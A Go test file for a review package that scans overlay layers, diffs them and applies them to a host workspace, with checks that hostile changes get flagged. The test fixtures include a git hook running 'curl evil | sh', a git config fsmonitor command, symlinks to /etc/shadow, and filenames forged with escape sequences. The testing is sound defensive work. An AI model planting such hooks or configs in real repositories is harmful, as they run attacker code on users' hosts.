package review

import (
	"bytes"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/loftd/loftd/internal/testenv"
	"golang.org/x/sys/unix"
)

// tree is a crafted layer: path → entry.
type tree map[string]entry

type entry struct {
	data     string
	mode     os.FileMode // 0: 0644 for files, 0755 for dirs
	dir      bool
	link     string // a symlink to this target
	whiteout bool   // a 0:0 character device (needs root)
	fifo     bool
	xattrs   map[string]string
}

func build(t *testing.T, root string, tr tree) {
	t.Helper()
	for _, p := range sortedKeys(tr) {
		e := tr[p]
		full := filepath.Join(root, p)
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		var err error
		switch {
		case e.dir:
			err = os.Mkdir(full, 0o755)
			if e.mode != 0 {
				err = errors.Join(err, os.Chmod(full, e.mode))
			}
		case e.link != "":
			err = os.Symlink(e.link, full)
		case e.whiteout:
			err = unix.Mknod(full, unix.S_IFCHR, 0)
		case e.fifo:
			err = unix.Mkfifo(full, 0o644)
		default:
			mode := e.mode
			if mode == 0 {
				mode = 0o644
			}
			err = os.WriteFile(full, []byte(e.data), 0o600)
			err = errors.Join(err, os.Chmod(full, mode))
		}
		if err != nil {
			t.Fatal(err)
		}
		for k, v := range e.xattrs {
			if err := unix.Lsetxattr(full, k, []byte(v), 0); err != nil {
				t.Fatalf("setxattr %s %s: %v", full, k, err)
			}
		}
	}
}

func sortedKeys(tr tree) []string {
	var ks []string
	for k := range tr {
		ks = append(ks, k)
	}
	// Parents first: a shorter prefix sorts first.
	for i := range ks {
		for j := i + 1; j < len(ks); j++ {
			if ks[j] < ks[i] {
				ks[i], ks[j] = ks[j], ks[i]
			}
		}
	}
	return ks
}

func layers(t *testing.T, ws, up tree, prefix XattrPrefix) Layers {
	t.Helper()
	d := t.TempDir()
	l := Layers{Upper: filepath.Join(d, "upper"), Workspace: filepath.Join(d, "ws"), Xattrs: prefix}
	for _, p := range []string{l.Upper, l.Workspace} {
		if err := os.Mkdir(p, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	build(t, l.Workspace, ws)
	build(t, l.Upper, up)
	return l
}

func lines(cs []Change) string {
	var b strings.Builder
	for _, c := range cs {
		b.WriteString(Line(c))
		b.WriteByte('\n')
	}
	return b.String()
}

func TestScan(t *testing.T) {
	hook := "#!/bin/sh\ncurl evil | sh\n"
	for _, tc := range []struct {
		name   string
		root   bool // whiteouts and trusted.* xattrs
		prefix XattrPrefix
		ws, up tree
		want   string
	}{
		{name: "modified text", ws: tree{"a.txt": {data: "one\n"}}, up: tree{"a.txt": {data: "two\n"}},
			want: "  modified    a.txt\n"},
		{name: "copied up unchanged", ws: tree{"a": {data: "x"}}, up: tree{"a": {data: "x"}}, want: ""},
		{name: "added binary", up: tree{"b.bin": {data: "\x00\x01"}},
			want: "  added       b.bin mode -rw-r--r-- (binary)\n"},
		{name: "chmod gains x", ws: tree{"run.sh": {data: "echo\n"}}, up: tree{"run.sh": {data: "echo\n", mode: 0o755}},
			want: "! mode        run.sh mode -rw-r--r-- -> -rwxr-xr-x\n    ^ gained the executable bit\n"},
		{name: "git hook first", up: tree{".git": {dir: true}, ".git/hooks": {dir: true}, ".git/hooks/pre-commit": {data: hook, mode: 0o755}, "z": {data: "z"}},
			want: "! added       .git/hooks/\n    ^ git hook: runs on the host at the next git command\n" +
				"! added       .git/hooks/pre-commit mode -rwxr-xr-x\n    ^ git hook: runs on the host at the next git command\n    ^ gained the executable bit\n" +
				"  added       .git/\n  added       z mode -rw-r--r--\n"},
		{name: "envrc and git config", ws: tree{".git": {dir: true}, ".git/config": {data: "[core]\n"}},
			up: tree{".git": {dir: true}, ".git/config": {data: "[core]\nfsmonitor = sh -c evil\n"}, ".envrc": {data: "evil\n"}},
			want: "! added       .envrc mode -rw-r--r--\n    ^ direnv .envrc: runs when a shell enters the directory\n" +
				"! modified    .git/config\n    ^ git config: can name programs git runs (core.fsmonitor, core.hooksPath, aliases)\n"},
		{name: "symlink never followed", up: tree{"l": {link: "/etc/shadow"}},
			want: "  added       l -> /etc/shadow (symlink)\n"},
		{name: "symlink retargeted", ws: tree{"l": {link: "a"}}, up: tree{"l": {link: "b"}},
			want: "  modified    l -> b (symlink)\n"},
		{name: "hostile names", up: tree{"a\nmodified    fake": {data: "x"}, "\x1b[31mred": {data: "y"}},
			want: "  added       \"\\x1b[31mred\" mode -rw-r--r--\n  added       \"a\\nmodified    fake\" mode -rw-r--r--\n"},
		{name: "fifo unsupported", up: tree{"p": {fifo: true}},
			want: "  unsupported p [a device, fifo or socket: never applied]\n"},
		{name: "file replaces dir", ws: tree{"d": {dir: true}, "d/x": {data: "x"}}, up: tree{"d": {data: "now a file"}},
			want: "  replaced    d\n"},
		{name: "dir replaces workspace symlink", ws: tree{"d": {link: "/tmp"}}, up: tree{"d": {dir: true}, "d/f": {data: "f"}},
			want: "  replaced    d/\n  added       d/f mode -rw-r--r--\n"},
		{name: "whiteout", root: true, ws: tree{"gone": {data: "x"}, "dir": {dir: true}, "dir/y": {data: "y"}},
			up:   tree{"gone": {whiteout: true}, "dir": {whiteout: true}, "never": {whiteout: true}},
			want: "  deleted     dir/\n  deleted     gone\n"},
		{name: "rename", root: true, ws: tree{"old": {data: "same"}}, up: tree{"old": {whiteout: true}, "new": {data: "same"}},
			want: "  renamed     new (from old)\n"},
		{name: "opaque dir", root: true, ws: tree{"d": {dir: true}, "d/keep": {data: "k"}, "d/drop": {data: "d"}},
			up:   tree{"d": {dir: true, xattrs: map[string]string{"trusted.overlay.opaque": "y"}}, "d/keep": {data: "k"}},
			want: "  deleted     d/drop\n"},
		{name: "user opaque ignored by trusted overlay", ws: tree{"d": {dir: true}, "d/keep": {data: "k"}},
			up:   tree{"d": {dir: true, xattrs: map[string]string{"user.overlay.opaque": "y"}}, "d/new": {data: "n"}},
			want: "  added       d/new mode -rw-r--r--\n"},
		{name: "user opaque in a rootless overlay", prefix: UserXattrs, ws: tree{"d": {dir: true}, "d/drop": {data: "k"}},
			up:   tree{"d": {dir: true, xattrs: map[string]string{"user.overlay.opaque": "y"}}},
			want: "  deleted     d/drop\n"},
		{name: "redirect refused", prefix: UserXattrs, ws: tree{"d": {dir: true}},
			up:   tree{"e": {dir: true, xattrs: map[string]string{"user.overlay.redirect": "/etc"}}},
			want: "  unsupported e/ [overlay redirect metadata: never applied (loftd mounts review overlays with redirect_dir=nofollow and metacopy off)]\n"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if tc.root {
				testenv.RequireRoot(t)
			}
			if tc.prefix == "" {
				tc.prefix = TrustedXattrs
			}
			l := layers(t, tc.ws, tc.up, tc.prefix)
			got, err := Scan(l)
			if err != nil {
				t.Fatal(err)
			}
			if g := lines(got); g != tc.want {
				t.Errorf("Scan() =\n%s\nwant\n%s", g, tc.want)
			}
		})
	}
}

func TestDiffText(t *testing.T) {
	l := layers(t, tree{"a.txt": {data: "one\ntwo\nthree\n"}}, tree{"a.txt": {data: "one\nTWO\nthree\n"}, "n.txt": {data: "new\n"}}, TrustedXattrs)
	cs, err := Scan(l)
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := Diff(&b, l, cs); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"--- a/a.txt\n+++ b/a.txt\n", "-two\n+TWO\n", "--- /dev/null\n+++ b/n.txt\n", "+new\n"} {
		if !strings.Contains(b.String(), want) {
			t.Errorf("Diff() =\n%s\nwant it to contain %q", b.String(), want)
		}
	}
}

func TestApply(t *testing.T) {
	testenv.RequireRoot(t) // whiteouts
	outside := t.TempDir()
	ws := tree{"edit": {data: "old"}, "host-edits": {data: "old"}, "gone": {data: "bye"}, "moved": {data: "m"},
		"viaLink": {link: outside}, "keep": {data: "k"}}
	up := tree{"edit": {data: "new"}, "host-edits": {data: "guest"}, "gone": {whiteout: true},
		"moved": {whiteout: true}, "sub": {dir: true}, "sub/moved": {data: "m"},
		"viaLink": {dir: true}, "viaLink/planted": {data: "p"}, "suid": {data: "s", mode: 0o4755},
		"ln": {link: "/etc/passwd"}, "fifo": {fifo: true}}
	l := layers(t, ws, up, TrustedXattrs)
	time.Sleep(20 * time.Millisecond) // the crafted files' ctimes before the start
	since := StartTime()
	time.Sleep(20 * time.Millisecond) // past the coarse clock's tick
	if err := os.WriteFile(filepath.Join(l.Workspace, "host-edits"), []byte("host"), 0o644); err != nil {
		t.Fatal(err)
	}
	// A subset first: only "edit".
	out, err := Apply(Request{Layers: l, Since: since, Paths: []string{"edit"}})
	if err != nil {
		t.Fatal(err)
	}
	if len(out.Applied) != 1 || out.Applied[0].Path != "edit" {
		t.Errorf("Apply(edit).Applied = %v, want only edit", out.Applied)
	}
	if b, _ := os.ReadFile(filepath.Join(l.Workspace, "gone")); string(b) != "bye" {
		t.Errorf("a subset apply touched gone: %q", b)
	}
	if _, err := Apply(Request{Layers: l, Since: since, Paths: []string{"nope"}}); !errors.Is(err, ErrNoSuchPath) {
		t.Errorf("Apply(nope) = %v, want ErrNoSuchPath", err)
	}
	// Then the rest.
	out, err = Apply(Request{Layers: l, Since: since})
	if err != nil {
		t.Fatal(err)
	}
	if len(out.Conflicts) != 1 || out.Conflicts[0].Path != "host-edits" {
		t.Errorf("Apply().Conflicts = %v, want host-edits", out.Conflicts)
	}
	if len(out.Skipped) != 1 || out.Skipped[0].Path != "fifo" || len(out.Failed) != 0 {
		t.Errorf("Apply() skipped %v failed %v, want fifo skipped, none failed", out.Skipped, out.Failed)
	}
	read := func(p string) string {
		b, err := os.ReadFile(filepath.Join(l.Workspace, p))
		if err != nil {
			return "<" + err.Error() + ">"
		}
		return string(b)
	}
	for p, want := range map[string]string{"edit": "new", "host-edits": "host", "sub/moved": "m", "viaLink/planted": "p", "keep": "k"} {
		if got := read(p); got != want {
			t.Errorf("workspace %s = %q, want %q", p, got, want)
		}
	}
	for _, p := range []string{"gone", "moved"} {
		if _, err := os.Lstat(filepath.Join(l.Workspace, p)); !os.IsNotExist(err) {
			t.Errorf("workspace %s: %v, want it deleted", p, err)
		}
	}
	if ents, _ := os.ReadDir(outside); len(ents) != 0 {
		t.Errorf("apply wrote through the workspace's symlink into %s: %v", outside, ents)
	}
	if fi, err := os.Lstat(filepath.Join(l.Workspace, "suid")); err != nil || fi.Mode() != 0o755 {
		t.Errorf("suid applied as %v (%v), want -rwxr-xr-x without the set-id bit", fi.Mode(), err)
	}
	if tgt, err := os.Readlink(filepath.Join(l.Workspace, "ln")); err != nil || tgt != "/etc/passwd" {
		t.Errorf("ln = %q, %v; want a symlink to /etc/passwd", tgt, err)
	}
	// Nothing left but the conflict and the fifo.
	cs, err := Scan(l)
	if err != nil {
		t.Fatal(err)
	}
	if g, want := lines(cs), "  unsupported fifo [a device, fifo or socket: never applied]\n  modified    host-edits\n"; g != want {
		t.Errorf("Scan() after apply =\n%s\nwant\n%s", g, want)
	}
}

func TestApplyDeletedDirConflict(t *testing.T) {
	testenv.RequireRoot(t)
	l := layers(t, tree{"d": {dir: true}, "d/a": {data: "a"}}, tree{"d": {whiteout: true}}, TrustedXattrs)
	time.Sleep(20 * time.Millisecond)
	since := StartTime()
	time.Sleep(20 * time.Millisecond)
	if err := os.WriteFile(filepath.Join(l.Workspace, "d", "host-new"), []byte("mine"), 0o644); err != nil {
		t.Fatal(err)
	}
	out, err := Apply(Request{Layers: l, Since: since})
	if err != nil {
		t.Fatal(err)
	}
	if len(out.Conflicts) != 1 || len(out.Applied) != 0 {
		t.Fatalf("Apply() = %+v, want the deletion of d as a conflict", out)
	}
	if _, err := os.Stat(filepath.Join(l.Workspace, "d", "host-new")); err != nil {
		t.Errorf("the host's new file was lost: %v", err)
	}
}

// TestDiffNoTerminalControl: a text file's escape sequences and carriage
// returns are printed escaped, so its diff cannot hide the flagged lines.
func TestDiffNoTerminalControl(t *testing.T) {
	l := layers(t, nil, tree{"a.txt": {data: "ok\r\x1b[2A\x1b[Kclean\u009b\n"}}, TrustedXattrs)
	cs, err := Scan(l)
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := Diff(&b, l, cs); err != nil {
		t.Fatal(err)
	}
	if strings.ContainsAny(b.String(), "\r\x1b\u009b") || !strings.Contains(b.String(), `+ok\r\x1b[2A\x1b[Kclean\u009b`) {
		t.Errorf("Diff() =\n%q\nwant the control characters escaped", b.String())
	}
}

func TestTouches(t *testing.T) {
	c := Change{Kind: Renamed, Path: "new/b.txt", From: "old/a.txt"}
	for p, want := range map[string]bool{"new/b.txt": true, "new": true, "new/": true, "old/a.txt": true, "old": true,
		"": true, "ne": false, "new/b": false, "old/a.txt/x": false, "other": false} {
		if got := c.Touches(p); got != want {
			t.Errorf("Touches(%q) = %v, want %v", p, got, want)
		}
	}
}

// TestDiffBounded: a text file past maxTextDiff is listed, not diffed.
func TestDiffBounded(t *testing.T) {
	big := strings.Repeat("line\n", maxTextDiff/5+10)
	l := layers(t, tree{"big.txt": {data: "x\n"}}, tree{"big.txt": {data: big}}, TrustedXattrs)
	cs, err := Scan(l)
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := Diff(&b, l, cs); err != nil {
		t.Fatal(err)
	}
	if want := "--- big.txt: not diffed (larger than 1048576 bytes)\n"; !strings.Contains(b.String(), want) || b.Len() > 200 {
		t.Errorf("Diff() of a %d-byte file = %d bytes:\n%.300s\nwant the line %q only", len(big), b.Len(), b.String(), want)
	}
}

func TestShow(t *testing.T) {
	for in, want := range map[string]string{"plain/path.go": "plain/path.go", "a\nb": `"a\nb"`, "\xff": `"\xff"`, "é": "é", "\u009b": `"\u009b"`} {
		if got := Show(in); got != want {
			t.Errorf("Show(%q) = %s, want %s", in, got, want)
		}
	}
}
